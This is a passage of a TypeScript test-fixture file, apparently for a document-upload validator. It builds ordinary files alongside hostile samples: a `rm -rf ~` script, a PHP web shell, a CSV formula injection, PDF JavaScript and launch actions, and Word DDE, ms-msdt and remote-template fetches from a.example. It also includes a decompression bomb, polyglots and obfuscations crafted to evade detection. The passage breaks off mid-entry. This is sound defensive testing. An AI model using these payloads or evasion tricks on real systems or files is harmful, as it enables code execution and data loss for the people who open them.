import { deflateRawSync, deflateSync } from 'node:zlib'
import sharp from 'sharp'
import { writeDocx } from '../../testing/docx.ts'
import { assemble, firstExtra, stream, writePdf } from '../../testing/pdf.ts'
import { writeZip, type ZipPart } from '../../testing/zip.ts'

const MEGABYTE = 1024 * 1024
const WORDS = 'Slutrapport'
const PAGE = [{ text: WORDS, x: 60, y: 60 }]
const PACKAGE = 'http://schemas.openxmlformats.org/package/2006'
const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const SPREADSHEET = 'application/vnd.openxmlformats-officedocument.spreadsheetml'

const bytesOf = (text: string): Uint8Array => Buffer.from(text)
const joined = (...parts: (Uint8Array | string)[]): Uint8Array =>
  Buffer.concat(parts.map((part) => Buffer.from(part as string)))

export const pdf = (catalog = '', extra: string[] = []): Uint8Array => writePdf([PAGE], { catalog, extra })
export const docx = (more: ZipPart[] = []): Uint8Array => writeDocx([WORDS], more)
/** A Word document with a part of fields: what stands in its runs. */
const fields = (...runs: string[]): Uint8Array =>
  docx([{ name: 'word/footer1.xml', content: `<w:ftr xmlns:w="x"><w:p>${runs.join('')}</w:p></w:ftr>` }])
const field = (state: 'begin' | 'separate' | 'end'): string =>
  `<w:r><w:fldChar w:fldCharType="${state}"/></w:r>`
const instruction = (words: string): string => `<w:r><w:instrText>${words}</w:instrText></w:r>`
const aField = (words: string): string =>
  `${field('begin')}${instruction(words)}${field('separate')}<w:r><w:t>1</w:t></w:r>${field('end')}`
/** A workbook with a formula in its only cell. */
const formula = (words: string, more = ''): Uint8Array =>
  xlsx([
    {
      name: 'xl/worksheets/sheet1.xml',
      content: `<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1"><f>${words}</f><v>1</v></c></row></sheetData>${more}</worksheet>`,
    },
  ])
/** What a package says of its parts, with more said. */
const saying = (...tags: string[]): ZipPart => ({
  name: '[Content_Types].xml',
  content: `<?xml version="1.0"?><Types xmlns="${PACKAGE}/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>${tags.join('')}</Types>`,
})

/** A workbook of one cell. `more` are parts that replace those of the same name, or come along. */
function xlsx(more: ZipPart[] = [], mainType = `${SPREADSHEET}.sheet.main+xml`): Uint8Array {
  const own: ZipPart[] = [
    {
      name: '[Content_Types].xml',
      content: `<?xml version="1.0"?><Types xmlns="${PACKAGE}/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="${mainType}"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="${SPREADSHEET}.worksheet+xml"/></Types>`,
    },
    {
      name: '_rels/.rels',
      content: `<?xml version="1.0"?><Relationships xmlns="${PACKAGE}/relationships"><Relationship Id="r1" Type="${OFFICE}/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
    },
    {
      name: 'xl/workbook.xml',
      content: `<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="${OFFICE}"><sheets><sheet name="Blad1" sheetId="1" r:id="r1"/></sheets></workbook>`,
    },
    {
      name: 'xl/_rels/workbook.xml.rels',
      content: `<?xml version="1.0"?><Relationships xmlns="${PACKAGE}/relationships"><Relationship Id="r1" Type="${OFFICE}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`,
    },
    {
      name: 'xl/worksheets/sheet1.xml',
      content: `<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1"><v>145</v></c></row></sheetData></worksheet>`,
    },
  ]
  const names = new Set(more.map(({ name }) => name))
  return writeZip([...own.filter(({ name }) => !names.has(name)), ...more])
}

const relationships = (...tags: string[]): ZipPart => ({
  name: 'word/_rels/settings.xml.rels',
  content: `<?xml version="1.0"?><Relationships xmlns="${PACKAGE}/relationships">${tags.join('')}</Relationships>`,
})
const external = (type: string, target: string, mode = 'External') =>
  `<Relationship Id="x" Type="${OFFICE}/${type}" Target="${target}" TargetMode="${mode}"/>`

const picture = () =>
  sharp({ create: { width: 40, height: 20, channels: 3, background: { r: 180, g: 20, b: 60 } } })
export const png = () => picture().png().toBuffer()
export const gif = () => picture().gif().toBuffer()
const webp = () => picture().webp().toBuffer()
/** A photograph, lying on its side, that tells where it was taken and with what. */
export const photograph = () =>
  picture()
    .jpeg()
    .withExif({
      IFD0: { Make: 'Kameramärket', Artist: 'Kim Exempel' },
      IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '59/1 19/1 46/1' },
    })
    .withMetadata({ orientation: 6 })
    .toBuffer()
const moving = async () => {
  const frames = await Promise.all(
    [10, 200].map((r) =>
      sharp({ create: { width: 8, height: 8, channels: 3, background: { r, g: 0, b: 0 } } })
        .png()
        .toBuffer(),
    ),
  )
  return sharp(frames, { join: { animated: true } })
    .gif()
    .toBuffer()
}

/** A PNG that says how large it is, and holds next to nothing. */
async function declaring(width: number, height: number): Promise<Uint8Array> {
  const { crc32 } = await import('node:zlib')
  const chunk = (type: string, data: Buffer) => {
    const body = Buffer.concat([Buffer.from(type), data])
    const around = Buffer.alloc(8)
    around.writeUInt32BE(data.length)
    around.writeUInt32BE(crc32(body), 4)
    return Buffer.concat([around.subarray(0, 4), body, around.subarray(4)])
  }
  const head = Buffer.alloc(13)
  head.writeUInt32BE(width)
  head.writeUInt32BE(height, 4)
  head.set([8, 2], 8)
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', head),
    chunk('IDAT', deflateSync(Buffer.alloc(1000))),
    chunk('IEND', Buffer.alloc(0)),
  ])
}

/** Objects in a packed list, where a search for words finds nothing. */
const hiddenIn = (object: string): string => {
  const text = `40 0 ${object}`
  const packed = deflateSync(Buffer.from(text)).toString('latin1')
  return stream(packed, '/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode')
}

/** A list of objects like `hiddenIn`'s, packed and described in another way. */
const packedAs = (object: string, entries: string, pack: (text: string) => string = deflated): string =>
  stream(pack(`40 0 ${object}`), entries)
const deflated = (text: string): string => deflateSync(Buffer.from(text, 'latin1')).toString('latin1')
const inHex = (text: string): string => `${Buffer.from(text, 'latin1').toString('hex')}>`
const ACTS = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'
/** Packed so that the word that ends a stream stands in it as it is, and what acts behind it does not. */
const endsWithin = (): string => {
  const plain = Buffer.from('40 0 (endstream endobj) ')
  const rest = Buffer.from(ACTS)
  const size = Buffer.alloc(4)
  size.writeUInt16LE(plain.length)
  size.writeUInt16LE(~plain.length & 0xffff, 2)
  let [low, high] = [1, 0]
  for (const byte of Buffer.concat([plain, rest])) {
    low = (low + byte) % 65_521
    high = (high + low) % 65_521
  }
  const sum = Buffer.alloc(4)
  sum.writeUInt32BE(high * 65_536 + low)
  return Buffer.concat([Buffer.from([0x78, 0x01, 0]), size, plain, deflateRawSync(rest), sum]).toString(
    'latin1',
  )
}
/** A PDF that was written on, as programs do who keep what was there. */
const writtenOn = (more: string): Uint8Array =>
  joined(pdf(), `${more}\ntrailer\n<< /Size 60 /Root 1 0 R >>\nstartxref\n9\n%%EOF\n`)

type Named = { name: string; bytes: () => Uint8Array | Promise<Uint8Array> }

/** Files as people have them, and what they are. */
export const WELCOME: Record<string, Named & { type: string }> = {
  'a PDF': { name: 'Slutrapport.pdf', bytes: () => pdf(), type: 'application/pdf' },
  'a PDF that opens at a page': {
    name: 'a.pdf',
    bytes: () => pdf('/OpenAction [6 0 R /Fit]'),
    type: 'application/pdf',
  },
  'a PDF that goes to a page, by way of another object': {
    name: 'a.pdf',
    bytes: () => pdf(`/OpenAction ${firstExtra(1)} 0 R`, ['<< /S /GoTo /D [6 0 R /Fit] >>']),
    type: 'application/pdf',
  },
  'a PDF with a packed list of objects': {
    name: 'a.pdf',
    bytes: () => pdf('', [hiddenIn('<< /Type /Font >>')]),
    type: 'application/pdf',
  },
  'a PDF with links to pages, letters and a file beside it, and with chapters': {
    name: 'a.pdf',
    bytes: () =>
      assemble([
        '<< /Type /Catalog /Pages 2 0 R /Outlines 8 0 R /PageMode /UseOutlines >>',
        '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
        '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Annots [4 0 R 5 0 R 6 0 R 7 0 R] >>',
        '<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://www.esf.se/a?b=1#c) >> >>',
        '<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (mailto:a@example.se) >> >>',
        '<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (file:///C:/bilaga.docx) >> >>',
        '<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /F 4 /A << /S /GoTo /D [3 0 R /Fit] >> >>',
        '<< /Type /Outlines /First 9 0 R /Last 9 0 R /Count 1 >>',
        '<< /Title (Kapitel <1>) /Parent 8 0 R /A << /S /URI /URI (www.esf.se) >> >>',
      ]),
    type: 'application/pdf',
  },
  'a PDF with a form, tags, data about itself and colours': {
    name: 'a.pdf',
    bytes: () =>
      pdf(
        `/AcroForm << /Fields [${firstExtra(1)} 0 R] /NeedAppearances true >> /MarkInfo << /Marked true >> /Metadata ${firstExtra(1) + 1} 0 R`,
        [
          '<< /FT /Tx /Subtype /Widget /Type /Annot /T (Namn) /V (Kim) /Rect [0 0 9 9] /F 4 >>',
          stream(
            '<?xpacket begin="" id="x"?><x:xmpmeta xmlns:x="adobe:ns:meta/"/>',
            '/Type /Metadata /Subtype /XML',
          ),
          stream('profile', '/N 3 /Alternate /DeviceRGB'),
        ],
      ),
    type: 'application/pdf',
  },
  'a PDF that somebody has written on': {
    name: 'a.pdf',
    bytes: () => writtenOn('50 0 obj\n<< /Type /Font >>\nendobj'),
    type: 'application/pdf',
  },
  'a PDF with a photograph in whose bytes names turn up by chance': {
    name: 'a.pdf',
    bytes: () =>
      pdf('', [
        stream(
          '/3D\xf9 /3DD\x02< /U3D\x80 /PRC\x01 /XFA1\xe5 /XFA\x00 7[ /AA12R /AA\xff<< /EF7R\xff /EF 12R /Collection\xff',
          '/Type /XObject /Subtype /Image /Width 9 /Height 9 /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /DCTDecode',
        ),
      ]),
    type: 'application/pdf',
  },
  'a PDF of another name': { name: 'Slutrapport.exe', bytes: () => pdf(), type: 'application/pdf' },
  'a Word document': {
    name: 'a.docx',
    bytes: () => docx(),
    type: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
  },
  'a Word document with links and a chart': {
    name: 'a.docx',
    bytes: () =>
      docx([
        relationships(
          external('hyperlink', 'https://www.esf.se/'),
          external('hyperlink', 'mailto:a@example.se'),
        ),
        { name: 'word/embeddings/Microsoft_Excel_Sheet1.xlsx', content: xlsx() },
      ]),
    type: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
  },
  'a Word document with the fields that documents have': {
    name: 'a.docx',
    bytes: () =>
      fields(
        aField(' PAGE \\* MERGEFORMAT '),
        aField('TOC \\o &quot;1-3&quot; \\h'),
        aField(' HYPERLINK &quot;https://www.esf.se/link&quot; \\o &quot;Import&quot; '),
        aField('MERGEFIELD Addendum'),
        '<w:fldSimple w:instr=" REF _Ref1 \\h "/><w:p><w:r><w:t>DDEAUTO och INCLUDETEXT är ord.</w:t></w:r></w:p>',
      ),
    type: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
  },
  'a Word document that was made from a template of its own machine': {
    name: 'a.docx',
    bytes: () =>
      docx([
        relationships(external('attachedTemplate', 'file:///C:\\Users\\kim\\Mallar\\Brev med logotyp.dotx')),
        {
          name: 'word/settings.xml',
          content: '<w:settings xmlns:w="x" xmlns:r="y"><w:attachedTemplate r:id="x"/></w:settings>',
        },
      ]),
    type: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
  },
  'a table that begins with numbers of people': {
    name: 'a.csv',
    bytes: () => bytesOf('ID;Person;Grupp\n1;Kim;C\n2;Alex;F\n'),
    type: 'text/csv',
  },
  'a workbook with the formulas that workbooks have': {
    name: 'a.xlsx',
    bytes: () =>
      formula(
        `HYPERLINK("https://www.esf.se","a|b!")&amp;SUM('Blad 1|x'!A1:B2)+Tabell[[#This Row],[Antal]]+RECALL(1)`,
        '<legacyDrawing xmlns:r="x" r:id="r9"/>',
      ),
    type: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
  },
  'a workbook with a button, drawn as Excel does': {
    name: 'a.xlsx',
    bytes: () =>
      xlsx([
        {
          name: 'xl/drawings/vmlDrawing1.vml',
          content:
            '<xml xmlns:v="urn:schemas-microsoft-com:vml"><v:shape><v:textbox><div>Räkna<br>om</div></v:textbox></v:shape></xml>',
        },
      ]),
    type: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
  },
  'a workbook': {
    name: 'a.xlsx',
    bytes: () => xlsx([{ name: 'xl/printerSettings/printerSettings1.bin', content: 'x' }]),
    type: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
  },
  'a table of values': {
    name: 'a.csv',
    bytes: () =>
      bytesOf('Grupp;Antal;Andring\r\nKvinnor;145;-12\r\nMän;92;+3 jämfört med planen\r\n- okänt;1;\r\n'),
    type: 'text/csv',
  },
  'a text': {
    name: 'a.txt',
    bytes: () => bytesOf('Färre än 3 < 4 deltog.\n=====\nTack!'),
    type: 'text/plain',
  },
  'a PNG': { name: 'a.png', bytes: png, type: 'image/png' },
  'a JPEG': { name: 'a.jpg', bytes: photograph, type: 'image/jpeg' },
  'a WebP': { name: 'a.webp', bytes: webp, type: 'image/webp' },
  'a GIF': { name: 'a.gif', bytes: gif, type: 'image/gif' },
}

/** Files that mean harm, or may do some, and the code of the refusal. */
export const UNWELCOME: Record<string, Named & { code: string }> = {
  'nothing at all': { name: 'a.pdf', bytes: () => new Uint8Array(), code: 'empty' },
  'a web page that is called PDF': {
    name: 'a.pdf',
    bytes: () => bytesOf('<!doctype html><html><body><script>alert(1)</script></body></html>'),
    code: 'markup',
  },
  'a web page with the beginning of a PDF in it': {
    name: 'a.pdf',
    bytes: () => joined('<html><script>alert(1)</script><!--', pdf(), '--></html>'),
    code: 'markup',
  },
  'a drawing with a script': {
    name: 'a.svg',
    bytes: () => bytesOf('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
    code: 'markup',
  },
  'a drawing behind a comment and a declaration': {
    name: 'a.png',
    bytes: () =>
      bytesOf('<?xml version="1.0"?><!-- x --><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
    code: 'markup',
  },
  'a text with a script far into it': {
    name: 'a.txt',
    bytes: () => bytesOf(`${'Bara ord. '.repeat(20_000)}<script>alert(1)</script>`),
    code: 'markup',
  },
  'a script in UTF-16': {
    name: 'a.txt',
    bytes: () => Buffer.from('\ufeffOrd <script>alert(1)</script>', 'utf16le'),
    code: 'markup',
  },
  'a program for the shell': { name: 'a.txt', bytes: () => bytesOf('#!/bin/sh\nrm -rf ~\n'), code: 'script' },
  'a program for a server': {
    name: 'a.txt',
    bytes: () => bytesOf('x <?php system($_GET[0]); ?>'),
    code: 'script',
  },
  'a program for Windows': {
    name: 'a.docx',
    bytes: () => joined('MZ', new Uint8Array(500)),
    code: 'otherFormat',
  },
  'a zip of anything': {
    name: 'a.docx',
    bytes: () => writeZip([{ name: 'a.exe', content: 'MZ' }]),
    code: 'otherFormat',
  },
  'a zip with a folder called as in Word': {
    name: 'a.docx',
    bytes: () => writeZip([{ name: 'word/a.xml', content: '<x/>' }]),
    code: 'otherFormat',
  },
  'a table with a program in a cell': {
    name: 'a.csv',
    bytes: () => bytesOf("Namn;Antal\n=cmd|'/c calc'!A0;1\n"),
    code: 'formulas',
  },
  'a table with a call behind a plus': {
    name: 'a.csv',
    bytes: () => bytesOf('Namn,Antal\n"+HYPERLINK(""http://a.example"")",1\n'),
    code: 'formulas',
  },
  'an older Word document': {
    name: 'a.doc',
    bytes: () =>
      joined(new Uint8Array([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), new Uint8Array(600)),
    code: 'oldOffice',
  },
  'a PDF with a script': {
    name: 'a.pdf',
    bytes: () => pdf('/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>'),
    code: 'pdfScript',
  },
  'a PDF with a script whose name is written as numbers': {
    name: 'a.pdf',
    bytes: () => pdf('/OpenAction << /S /J#61vaScr#69pt /JS (app.alert\\(1\\)) >>'),
    code: 'pdfScript',
  },
  'a PDF with a script in a packed list of objects': {
    name: 'a.pdf',
    bytes: () => pdf('', [hiddenIn('<< /S /JavaScript /JS (app.alert\\(1\\)) >>')]),
    code: 'pdfScript',
  },
  'a PDF whose list of objects is packed as nobody does it': {
    name: 'a.pdf',
    bytes: () => pdf('', [stream('3430>', '/Type /ObjStm /N 1 /First 5 /Filter /ASCIIHexDecode')]),
    code: 'pdfPacked',
  },
  'a PDF whose list of objects unpacks without end': {
    name: 'a.pdf',
    bytes: () =>
      pdf('', [
        stream(
          deflateSync(Buffer.alloc(220 * MEGABYTE, 32)).toString('latin1'),
          '/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode',
        ),
      ]),
    code: 'unpacksToTooMuch',
  },
  'a PDF whose list of objects is packed twice': {
    name: 'a.pdf',
    bytes: () =>
      pdf('', [
        packedAs(ACTS, '/Type /ObjStm /N 1 /First 5 /Filter [/ASCIIHexDecode /FlateDecode]', (text) =>
          inHex(deflated(text)),
        ),
      ]),
    code: 'pdfPacked',
  },
  'a PDF whose list of objects is packed in a way that stands elsewhere': {
    name: 'a.pdf',
    bytes: () => pdf('', [packedAs(ACTS, '/Type /ObjStm /N 1 /First 5 /Filter 50 0 R'), '/FlateDecode']),
    code: 'pdfPacked',
  },
  'a PDF whose list of objects says twice how it is packed': {
    name: 'a.pdf',
    bytes: () =>
      pdf('', [packedAs(ACTS, '/Type /ObjStm /N 1 /First 5 /Filter /ASCIIHexDecode /F /FlateDecode')]),
    code: 'pdfPacked',
  },
  'a PDF whose list of objects is mixed before it is packed': {
    name: 'a.pdf',
    bytes: () =>
      pdf('', [
        packedAs(
          ACTS,
          '/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode /DecodeParms << /Predictor %1\n 12 /Columns 4 >>',
        ),
      ]),
    code: 'pdfPacked',
  },
  'a PDF whose list of objects does not say that it is one': {
    name: 'a.pdf',
    bytes: () => pdf('', [packedAs(ACTS, '/N 1 /First 5 /Filter /FlateDecode')]),
    code: 'pdfScript',
  },
  'a PDF whose list of objects says that it is something else, in numbers': {
    name: 'a.pdf',
    bytes: () => pdf('', [packedAs(ACTS, '/Type /XObject /#4e 1 /F#69rst 5 /Filter /Fl#61teDecode')]),
    code: 'pdfScript',
  },
  'a PDF whose list of objects has a long comment in it': {
    name: 'a.pdf',
    bytes: () =>
      pdf('', [
        packedAs(ACTS, `/Type /ObjStm /N 1 /First 5 %${'endobj '.repeat(1000)}\n /Filter /FlateDecode`),
      ]),
    code: 'pdfScript',
  },
  'a PDF whose list of objects seems to end before it does': {
    name: 'a.pdf',
    bytes: () => pdf('', [stream(endsWithin(), '/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode')]),
    code: 'pdfScript',
  },
  'a PDF with a script that an earlier writing holds': {
    name: 'a.pdf',
    bytes: () => joined(pdf('', [ACTS]), pdf()),
    code: 'pdfScript',
  },
  'a PDF with a script that a later writing adds': {
    name: 'a.pdf',
    bytes: () => writtenOn(`50 0 obj\n${ACTS}\nendobj`),
    code: 'pdfScript',
  },
  'a PDF with a form of programs behind a comment': {
    name: 'a.pdf',
    bytes: () => pdf('/AcroForm << /Fields [] /XFA%x\n50 0 R >>'),
    code: 'pdfScript',
  },
  'a PDF that does something at each page, behind a comment': {
    name: 'a.pdf',
    bytes: () => pdf('/#41A%x\r\0<< /WC << /S /Named /N /Print >> >>'),
    code: 'pdfOpens',
  },
  'a PDF that goes to an address by an object of which there are two': {
    name: 'a.pdf',
    bytes: () =>
      joined(
        pdf('/OpenAction 50 0 R', ['<< >>\nendobj\n050%x\n0%y\nobj << /S /URI /URI (http://a.example/) >>']),
      ),
    code: 'pdfOpens',
  },
  'a PDF that goes to a page and then to an address': {
    name: 'a.pdf',
    bytes: () =>
      pdf(`/OpenAction << /D [6 0 R /Fit << >>] /S /GoTo /Next ${firstExtra(1)} 0 R >>`, [
        '<< /S /URI /URI (http://a.example/) >>',
      ]),
    code: 'pdfOpens',
  },
  'a PDF with a link that is a program': {
    name: 'a.pdf',
    bytes: () =>
      assemble([
        '<< /Type /Catalog /Pages 2 0 R >>',
        '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
        '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Annots [4 0 R] >>',
        `<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI <${Buffer.from('java\tscript:alert(1)').toString('hex')}> >> >>`,
      ]),
    code: 'pdfScript',
  },
  'a PDF with a body that moves': {
    name: 'a.pdf',
    bytes: () => pdf('', ['<< /Type /Annot /Subtype /3D /3DD 50 0 R >>']),
    code: 'pdfScript',
  },
  'a PDF with a body that moves, which does not say so': {
    name: 'a.pdf',
    bytes: () => pdf('', ['<< /Type /Annot /Subtype 40 0 R /3D#44%x\n<< /3DD%x\r50%y\n0 R >> >>']),
    code: 'pdfScript',
  },
  'a PDF with a body in space that nothing leads to': {
    name: 'a.pdf',
    bytes: () => pdf('', [stream('x', '/Subtype%x\n/U3#44')]),
    code: 'pdfScript',
  },
  'a PDF with a form of programs in pieces': {
    name: 'a.pdf',
    bytes: () => pdf('/AcroForm << /Fields [] /XFA%x\n[(template) 50 0 R] >>'),
    code: 'pdfScript',
  },
  'a PDF that is a folder of files': {
    name: 'a.pdf',
    bytes: () => pdf('/Collection << /View /T >>'),
    code: 'pdfEmbeds',
  },
  'a PDF of which a part lies elsewhere': {
    name: 'a.pdf',
    bytes: () => pdf('', [stream('', '/F (\\\\\\\\a.example\\\\a) /FFilter /FlateDecode')]),
    code: 'pdfOpens',
  },
  'a PDF that draws a page of another': {
    name: 'a.pdf',
    bytes: () => pdf('', [stream('', '/Type /XObject /Subtype /Form /Ref << /F (a.pdf) /Page 0 >>')]),
    code: 'pdfOpens',
  },
  'a PDF that starts a program': {
    name: 'a.pdf',
    bytes: () => pdf('', ['<< /S /Launch /F (calc.exe) >>']),
    code: 'pdfScript',
  },
  'a PDF that goes to an address when it is opened': {
    name: 'a.pdf',
    bytes: () => pdf('/OpenAction << /S /URI /URI (http://a.example/) >>'),
    code: 'pdfOpens',
  },
  'a PDF that does so by way of another object': {
    name: 'a.pdf',
    bytes: () => pdf(`/OpenAction ${firstExtra(1)} 0 R`, ['<< /S /URI /URI (http://a.example/) >>']),
    code: 'pdfOpens',
  },
  'a PDF that does so by way of a packed object': {
    name: 'a.pdf',
    bytes: () => pdf('/OpenAction 40 0 R', [hiddenIn('<< /S /URI /URI (http://a.example/) >>')]),
    code: 'pdfOpens',
  },
  'a PDF that does something at each page': {
    name: 'a.pdf',
    bytes: () => pdf('/AA << /WC << /S /Named /N /Print >> >>'),
    code: 'pdfOpens',
  },
  'a PDF with a file in it': {
    name: 'a.pdf',
    bytes: () =>
      pdf(`/Names << /EmbeddedFiles << /Names [(a.exe) ${firstExtra(1)} 0 R] >> >>`, [
        `<< /Type /Filespec /F (a.exe) /EF << /F ${firstExtra(1) + 1} 0 R >> >>`,
        stream('MZ'),
      ]),
    code: 'pdfEmbeds',
  },
  'a PDF under a password': {
    name: 'a.pdf',
    bytes: () =>
      writePdf([PAGE], {
        trailer: `/Encrypt ${firstExtra(1)} 0 R /ID [<${'00'.repeat(16)}> <${'00'.repeat(16)}>]`,
        extra: [`<< /Filter /Standard /V 1 /R 2 /P -4 /O <${'ab'.repeat(32)}> /U <${'cd'.repeat(32)}> >>`],
      }),
    code: 'passwordProtected',
  },
  'a PDF that is also a zip': {
    name: 'a.pdf',
    bytes: () => joined(pdf(), writeZip([{ name: 'a.class', content: 'x' }])),
    code: 'polyglot',
  },
  'a PDF that is also a zip, and ends as a PDF does': {
    name: 'a.pdf',
    bytes: () => joined(pdf(), writeZip([{ name: 'a.class', content: 'x' }]), '\n%%EOF\n'),
    code: 'polyglot',
  },
  'a PDF that is also a web page': {
    name: 'a.pdf',
    bytes: () => joined(pdf(), '<html><script>alert(1)</script></html>'),
    code: 'polyglot',
  },
  'a PDF that is also a web page, between two of its ends': {
    name: 'a.pdf',
    bytes: () => joined(pdf(), '<html><script>alert(1)</script></html>\n', '%%EOF\n'),
    code: 'polyglot',
  },
  'a PDF that begins as a web page would': {
    name: 'a.pdf',
    bytes: () => joined('%PDF-1.7 <html><body onload="alert(1)">\n', pdf()),
    code: 'polyglot',
  },
  'a PDF that is also a Word document': {
    name: 'a.docx',
    bytes: () => joined(pdf(), docx()),
    code: 'polyglot',
  },
  'a text with a PDF behind it': { name: 'a.txt', bytes: () => joined('Ord.\n', pdf()), code: 'polyglot' },
  'a web archive': {
    name: 'a.txt',
    bytes: () =>
      bytesOf(
        'From: a\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="b"\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n<p>x</p>\r\n--b--\r\n',
      ),
    code: 'markup',
  },
  'a PDF that begins further in': { name: 'a.pdf', bytes: () => joined('GIF89a=1;', pdf()), code: 'broken' },
  'the beginning of a PDF': { name: 'a.pdf', bytes: () => pdf().subarray(0, 300), code: 'broken' },
  'a PDF of no pages': {
    name: 'a.pdf',
    bytes: () => assemble(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [] /Count 0 >>']),
    code: 'broken',
  },
  'a Word document with macros': {
    name: 'a.docx',
    bytes: () => docx([{ name: 'word/vbaProject.bin', content: 'Attribute VB_Name' }]),
    code: 'macros',
  },
  'a workbook that says that it has macros': {
    name: 'a.xlsx',
    bytes: () => xlsx([], 'application/vnd.ms-excel.sheet.macroEnabled.main+xml'),
    code: 'macros',
  },
  'a workbook with macros of the oldest kind': {
    name: 'a.xlsx',
    bytes: () => xlsx([{ name: 'xl/macrosheets/sheet1.xml', content: '<x/>' }]),
    code: 'macros',
  },
  'a Word document whose template lies elsewhere': {
    name: 'a.docx',
    bytes: () => docx([relationships(external('attachedTemplate', 'http://a.example/a.dotm'))]),
    code: 'reachesOut',
  },
  'one that writes so in numbers': {
    name: 'a.docx',
    bytes: () =>
      docx([relationships(external('attachedTemplate', 'http://a.example/a.dotm', '&#69;xternal'))]),
    code: 'reachesOut',
  },
  'a Word document with a link that starts a program': {
    name: 'a.docx',
    bytes: () => docx([relationships(external('hyperlink', 'ms-msdt:/id'))]),
    code: 'reachesOut',
  },
  'a Word document with a field that asks another program': {
    name: 'a.docx',
    bytes: () =>
      docx([
        {
          name: 'word/footer1.xml',
          content:
            '<w:ftr xmlns:w="x"><w:r><w:instrText> DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\x "/k calc"</w:instrText></w:r></w:ftr>',
        },
      ]),
    code: 'reachesOut',
  },
  'a workbook with values of other files': {
    name: 'a.xlsx',
    bytes: () => xlsx([{ name: 'xl/externalLinks/externalLink1.xml', content: '<externalLink/>' }]),
    code: 'reachesOut',
  },
  'a Word document that asks another program right behind another field': {
    name: 'a.docx',
    bytes: () => fields(aField('PAGE'), aField('DDEAUTO c:\\x')),
    code: 'reachesOut',
  },
  'a Word document that asks another program in pieces': {
    name: 'a.docx',
    bytes: () =>
      fields(
        field('begin'),
        '<w:r><w:instrText a=">">D<![CDATA[D]]></w:instrText></w:r>',
        '<w:r><w:instrText><!-- x -->E<?x y?>AU&#84;O c:\\x</w:instrText></w:r>',
        field('end'),
      ),
    code: 'reachesOut',
  },
  'a Word document that asks another program in a simple field': {
    name: 'a.docx',
    bytes: () => fields('<w:fldSimple w:x=">" w:instr="&#68;DE c:\\x y"/>'),
    code: 'reachesOut',
  },
  'a Word document that fetches a picture': {
    name: 'a.docx',
    bytes: () => fields(aField(' INCLUDEPICTURE "http://a.example/a.png" \\d ')),
    code: 'reachesOut',
  },
  'a Word document that fetches a text': {
    name: 'a.docx',
    bytes: () => fields(aField('includetext "\\\\a.example\\a"')),
    code: 'reachesOut',
  },
  'a Word document with a piece of a workbook that lies elsewhere': {
    name: 'a.docx',
    bytes: () => fields(aField(' LINK Excel.Sheet.12 "C:\\a.xlsx" ')),
    code: 'reachesOut',
  },
  'a Word document with a field that is a link to a program': {
    name: 'a.docx',
    bytes: () => fields(aField(' HYPERLINK \\h "ms-msdt:/id" ')),
    code: 'reachesOut',
  },
  'a Word document whose template lies on another machine': {
    name: 'a.docx',
    bytes: () => docx([relationships(external('attachedTemplate', 'file://a.example/C:/a.dotm'))]),
    code: 'reachesOut',
  },
  'a table of the oldest kind': {
    name: 'a.csv',
    bytes: () => bytesOf('ID;PWXL;N;E\nO;E\nNN;NAuto_open;ER1C1\nC;X1;Y1;EEXEC("calc")\nE\n'),
    code: 'otherFormat',
  },
  'a document in RTF that is called text': {
    name: 'a.txt',
    bytes: () => bytesOf('{\\rtf1{\\field{\\*\\fldinst DDEAUTO c:\\\\x}}}'),
    code: 'otherFormat',
  },
  'a Word document whose template lies elsewhere, behind a sign that ends tags': {
    name: 'a.docx',
    bytes: () =>
      docx([
        relationships(
